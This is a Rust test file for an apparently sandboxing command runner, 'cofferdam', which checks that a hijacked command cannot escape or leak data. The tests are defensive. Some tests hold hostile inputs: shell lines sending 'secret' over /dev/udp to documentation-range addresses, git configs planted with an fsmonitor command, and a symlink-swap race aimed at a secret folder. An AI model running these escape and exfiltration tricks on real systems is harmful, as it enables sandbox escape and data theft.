//! What a hijacked command does to what stands beside it, and to the next run.

mod support;

use std::{
    fs,
    io::{BufRead as _, BufReader, Write as _},
    os::{fd::AsRawFd as _, unix::process::CommandExt as _},
    path::Path,
    process::{Command, Stdio},
    sync::atomic::{AtomicBool, Ordering},
    thread,
};

use anyhow::{Context as _, Result};
use rustix::fs::{CWD, RenameFlags, renameat_with};
use support::{Done, World};

const POLICY: &str = "apiVersion: cofferdam/v1\nkind: EgressPolicy\nspec: { mode: limited }\n";

#[test]
fn nothing_that_the_command_makes_keeps_the_next_record_from_being_written() -> Result<()> {
    let world = World::new()?;
    let script = "rm -rf .e.jsonl.lock; mkdir .e.jsonl.lock e.jsonl.next; ln -s nowhere e.jsonl.torn; ls -A e.jsonl*; \
                  flock -n e.jsonl true && echo locked; echo done";
    for _ in 0..2 {
        fs::remove_dir(world.work().join("e.jsonl.next")).ok();
        fs::remove_file(world.work().join("e.jsonl.torn")).ok();
        let done = world.run(&["run", "--events", "e.jsonl", "--", "sh", "-c", script])?.expect(0);
        assert!(done.out.ends_with("done\n") && !done.out.contains("locked"), "{}{}", done.out, done.err);
    }
    world.run(&["audit", "verify", "e.jsonl"])?.expect(0);
    Ok(())
}

/// An earlier command leaves pipes where files are expected. Nothing waits for who never comes.
#[test]
fn nothing_waits_for_a_pipe_that_a_command_left() -> Result<()> {
    let world = World::new()?;
    let script = "mkfifo pipe; for name in .e.jsonl.lock e.jsonl.torn; do mkfifo $name; done";
    world.run(&["run", "--", "sh", "-c", script])?.expect(0);
    world.write("good.yaml", POLICY)?;
    for (arguments, code) in [
        (&["run", "--policy", "pipe", "--", "true"][..], 125),
        (&["run", "--events", "pipe", "--", "true"], 125),
        (&["run", "--ask-file", "pipe", "--", "true"], 125),
        (&["run", "--policy", "/dev/zero", "--", "true"], 125),
        (&["run", "--ask-file", "/dev/null", "--", "true"], 125),
        (&["policy", "validate", "pipe"], 1),
        (&["policy", "diff", "good.yaml", "pipe"], 1),
        (&["policy", "replay", "good.yaml", "--input-file", "pipe"], 1),
        (&["audit", "verify", "pipe"], 1),
        (&["audit", "export", "--format", "jsonl", "pipe"], 1),
        (&["observe", "--input-file", "pipe"], 1),
    ] {
        // Where one waits, this ends it: that code is none of those expected.
        let mut command = Command::new("timeout");
        command.args(["--kill-after=1", "60"]).arg(env!("CARGO_BIN_EXE_cofferdam")).args(arguments);
        world.settle(&mut command);
        let done = Done::of(&command.current_dir(world.work()).output()?);
        assert_eq!(done.code, Some(code), "{arguments:?}: {}", done.err);
        assert!(done.err.contains("no file") || done.err.contains("no ordinary file"), "{arguments:?}: {}", done.err);
    }
    Ok(())
}

/// A shell's `<(command)` and `/dev/stdin` are the caller's own, and are waited for.
#[test]
fn a_policy_may_come_through_a_descriptor_of_the_callers() -> Result<()> {
    let world = World::new()?;
    let mut command = world.command(&["run", "--policy", "/dev/stdin", "--", "true"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn()?;
    child.stdin.take().context("no input")?.write_all(POLICY.as_bytes())?;
    Done::of(&child.wait_with_output()?).expect(0);
    let script = format!("\"$0\" run --policy <(printf '%s' '{POLICY}') -- true");
    let mut command = Command::new("bash");
    command.args(["-c", &script, env!("CARGO_BIN_EXE_cofferdam")]).current_dir(world.work());
    world.settle(&mut command);
    Done::of(&command.output()?).expect(0);
    Ok(())
}

/// A command that may write the folder above swaps the working directory of a run that is starting for a link, again and
/// again. What the link leads to is never mounted.
#[test]
fn a_working_directory_that_another_command_swaps_for_a_link_is_not_left() -> Result<()> {
    let world = World::new()?;
    let (work, link, secret) = (world.work().join("project"), world.work().join("link"), world.path().join("secret"));
    for folder in [&work, &secret] {
        fs::create_dir(folder)?;
    }
    fs::write(secret.join("key"), "secret")?;
    std::os::unix::fs::symlink(&secret, &link)?;
    let here = fs::File::open(&work)?;
    let stop = AtomicBool::new(false);
    thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                renameat_with(CWD, &work, CWD, &link, RenameFlags::EXCHANGE).unwrap();
                thread::yield_now();
            }
        });
        let tried = (0..8).try_for_each(|_| {
            let mut command = world.command(&["run", "-q", "--", "sh", "-c", "cat key; echo made > made"]);
            // Where it stands is the folder itself, by whatever name.
            command.current_dir(format!("/proc/{}/fd/{}", std::process::id(), here.as_raw_fd()));
            let done = Done::of(&command.output()?);
            anyhow::ensure!(matches!(done.code, Some(0 | 125)) && !done.out.contains("secret"), "{done:?}");
            Ok(())
        });
        stop.store(true, Ordering::Relaxed);
        tried
    })?;
    assert!(!secret.join("made").exists());
    Ok(())
}

/// A live command leaves a link where a folder was; what it leads to is no part of what that command may write.
#[test]
fn a_folder_that_a_live_command_leads_elsewhere_is_not_mounted() -> Result<()> {
    let world = World::new()?;
    fs::create_dir(world.path().join("secret"))?;
    fs::write(world.path().join("secret/key"), "secret")?;
    fs::create_dir_all(world.work().join("real/inner"))?;
    let script = "ln -s ../secret data; ln -s real near; echo ready; read line";
    let mut first = world.command(&["run", "-q", "--", "sh", "-c", script]);
    let mut first = first.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    let mut line = String::new();
    BufReader::new(first.stdout.take().context("no output")?).read_line(&mut line)?;
    assert_eq!(line, "ready\n");
    let cat = ["--", "sh", "-c", "cat key /data/key; echo done"];
    for flags in [&["--mount", "./data:/data"][..], &["--mount", "data:/data:ro"], &["--workdir", "data"]] {
        let done = world.run(&[&["run", "-q"], flags, &cat].concat())?.expect(125);
        assert!(done.err.contains("symbolic link") && !done.out.contains("secret"), "{flags:?}: {}", done.err);
    }
    for flags in [&["--mount", "./near:/data"][..], &["--mount", "real/inner:/data:ro"], &["--workdir", "near"]] {
        let done = world.run(&[&["run", "-q"], flags, &cat].concat())?.expect(0);
        assert_eq!(done.out, "done\n", "{flags:?}");
    }
    drop(first.stdin.take());
    first.wait()?;
    // What an ended run's command left may be meant: it is said where it leads.
    let done = world.run(&["run", "--workdir", "data", "--", "true"])?.expect(0);
    let secret = fs::canonicalize(world.path().join("secret"))?;
    assert!(done.err.contains(&format!("--workdir data is {}", secret.display())), "{}", done.err);
    Ok(())
}

/// An ordinary user, where the tests are run by root, whom no rights of a file hold.
const ORDINARY: u32 = 4242;

/// A world that is the ordinary user's.
fn ordinary_world() -> Result<World> {
    let world = World::new()?;
    fs::copy(env!("CARGO_BIN_EXE_cofferdam"), world.path().join("cofferdam"))?;
    if rustix::process::geteuid().is_root() {
        for path in [world.path(), &world.path().join("home"), &world.work()] {
            std::os::unix::fs::chown(path, Some(ORDINARY), Some(ORDINARY))?;
        }
    }
    Ok(world)
}

/// Runs a program of the world's as that user.
fn as_ordinary(world: &World, program: &Path, folder: &Path, arguments: &[&str]) -> Result<Done> {
    let mut command = Command::new(program);
    world.settle(&mut command);
    command.args(arguments).current_dir(folder).env("GIT_CONFIG_GLOBAL", "/dev/null");
    if rustix::process::geteuid().is_root() {
        command.uid(ORDINARY).gid(ORDINARY);
    }
    Ok(Done::of(&command.output()?))
}

/// Git runs what it may read; it need not list anything. So neither may the look at the end.
#[test]
fn rights_that_the_command_took_away_hide_no_repository() -> Result<()> {
    let world = ordinary_world()?;
    let names = ["a", "b", "c", "d", "e", "f", "g", "h", "deep/er/i"];
    let script = format!(
        "for n in {}; do mkdir -p $n/.git/hooks $n/.git/objects $n/.git/refs; echo 'ref: refs/heads/main' > $n/.git/HEAD; \
         printf '[core]\\n\\tbare = false\\n\\tfsmonitor = touch {}/escaped #\\n' > $n/.git/config; \
         cp /bin/true $n/.git/hooks/pre-commit; done; \
         chmod 555 a/.git a/.git/hooks; chmod 444 a/.git/config; chmod 000 b/.git/hooks b/.git/config; \
         chmod 111 c/.git c/.git/hooks; chmod 000 d/.git; chmod 000 e; chmod 000 f/.git/hooks/pre-commit; chmod 555 f; \
         chmod 311 g/.git/hooks g/.git g; chmod 400 h/.git/hooks; chmod 600 h/.git/objects; chmod 000 deep; chmod 111 .",
        names.join(" "),
        world.path().display()
    );
    let binary = world.path().join("cofferdam");
    let done = as_ordinary(&world, &binary, &world.work(), &["run", "--", "sh", "-ec", &script])?.expect(0);
    assert!(done.err.contains("folders that could not be searched"), "{}", done.err);
    assert!(!done.err.contains("could not be moved aside"), "{}", done.err);
    assert!(!done.err.contains("not every repository"), "{}", done.err);
    for name in names {
        let folder = world.work().join(name);
        let settings = fs::read_to_string(folder.join(".git/config"))?;
        assert!(settings.contains("bare") && !settings.contains("fsmonitor"), "{name}: {settings}");
        assert!(!folder.join(".git/hooks/pre-commit").exists(), "{name}: {}", done.err);
        // Whether it succeeds is not the question.
        as_ordinary(&world, Path::new("git"), &folder, &["status"])?;
    }
    assert!(!world.path().join("escaped").exists(), "{}", done.err);
    Ok(())
}

/// Where both were killed nobody could say it then; the next run does, once.
#[test]
fn a_run_that_was_killed_leaves_word_of_what_nobody_looked_at() -> Result<()> {
    let world = World::new()?;
    let mut command = world.command(&["run", "--", "sh", "-c", "echo ready; read go"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn()?;
    let mut out = BufReader::new(child.stdout.take().context("no output")?);
    // `wait` would close it, and the command could end by itself before the gateway is killed.
    let _open = child.stdin.take();
    out.read_line(&mut String::new())?;
    child.kill()?;
    child.wait()?;
    // The gateway dies with its front, a moment later: until then the run is a live one.
    let mut said = String::new();
    for _ in 0..200 {
        said = world.run(&["run", "--quiet", "--", "true"])?.expect(0).err;
        if !said.is_empty() {
            break;
        }
    }
    assert!(said.contains("was killed: before you use git, read config and hooks in every .git there"), "{said}");
    assert!(said.contains(&world.work().display().to_string()), "{said}");
    assert_eq!(world.run(&["run", "--quiet", "--", "true"])?.expect(0).err, "");
    Ok(())
}

/// What the sandbox's own rules reject never reaches the gateway; it is recorded all the same, once a destination, and a
/// flood is counted.
#[test]
fn datagrams_that_nothing_opens_are_recorded_as_denied() -> Result<()> {
    let world = World::new()?;
    let script = "for to in 198.51.100.7/4444 198.51.100.7/4444 2001:db8::5/99 127.0.0.1/15053; do \
                  (echo secret > /dev/udp/$to) 2>/dev/null; done; (echo x > /dev/tcp/127.0.0.1/15001) 2>/dev/null; \
                  i=0; while [ $i -lt 3000 ]; do echo x > /dev/udp/203.0.113.9/7; i=$((i+1)); done 2>/dev/null; true";
    let done = world.run(&["run", "--", "bash", "-c", script])?.expect(0);
    let events = world.run(&["observe", "-o", "jsonl"])?.expect(0).out;
    let events: String =
        events.lines().filter(|line| line.contains("flow.decided")).map(|line| format!("{line}\n")).collect();
    let denied = |destination: &str, protocol: &str| {
        let is_it = |line: &&str| line.contains(destination) && line.contains(&format!("\"protocol\":\"{protocol}\""));
        events.lines().filter(|line| line.contains("\"verdict\":\"denied\"")).filter(is_it).count()
    };
    assert_eq!(denied("\"original_address\":\"198.51.100.7\",\"port\":4444", "udp"), 1, "{events}");
    assert_eq!(denied("\"original_address\":\"2001:db8::5\",\"port\":99", "udp"), 1, "{events}");
    assert_eq!(denied("\"original_address\":\"127.0.0.1\",\"port\":15053", "udp"), 1, "{events}");
    assert_eq!(denied("\"original_address\":\"127.0.0.1\",\"port\":15001", "tcp"), 1, "{events}");
    assert!(matches!(denied("\"original_address\":\"203.0.113.9\",\"port\":7", "udp"), 1..50), "{events}");
    assert!(!events.contains("secret"), "{events}");
    assert!(done.err.contains("udp 198.51.100.7:4444"), "{}", done.err);
    world.run(&["audit", "verify"])?.expect(0);
    Ok(())
}
